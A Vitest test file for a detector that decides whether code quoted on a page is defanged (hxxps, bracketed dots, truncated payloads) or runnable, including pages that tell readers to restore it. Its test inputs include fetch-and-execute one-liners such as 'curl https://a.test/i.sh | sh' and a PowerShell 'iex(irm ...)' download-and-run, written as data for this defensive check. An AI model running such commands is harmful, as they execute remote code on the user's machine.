// What was made unusable on purpose, and what a page or a program makes whole again.
import { describe, expect, it } from 'vitest';
import { disarmedOn } from './disarmed.ts';

describe('code on a page that nobody can run as it stands', () => {
  const isDisarmed = disarmedOn('# Cases\n\nSeen last week.\n');
  it.each([
    'curl hxxps://a.test/i.sh | sh',
    'iex(irm a[.]test/x)',
    'curl -s https://.../i.sh | bash',
    'exec(b64decode(b"aW1wb3J0IG9z..."))',
  ])('%s', (code) => expect(isDisarmed(code)).toBe(true));

  it.each(['curl https://a.test/i.sh | sh', "echo hxxp://a.test | sed 's/hxxp/http/'", 'ls [.]', 'echo "a..."'])(
    'not %s',
    (code) => expect(isDisarmed(code)).toBe(false),
  );
});

it('is not disarmed on a page that has it made whole and run', () => {
  expect(disarmedOn('Replace hxxps by https and run it.')('curl hxxps://a.test/i.sh')).toBe(false);
  expect(disarmedOn('把 hxxp 改成 http 后运行。')('curl hxxp://a.test/i.sh')).toBe(false);
});
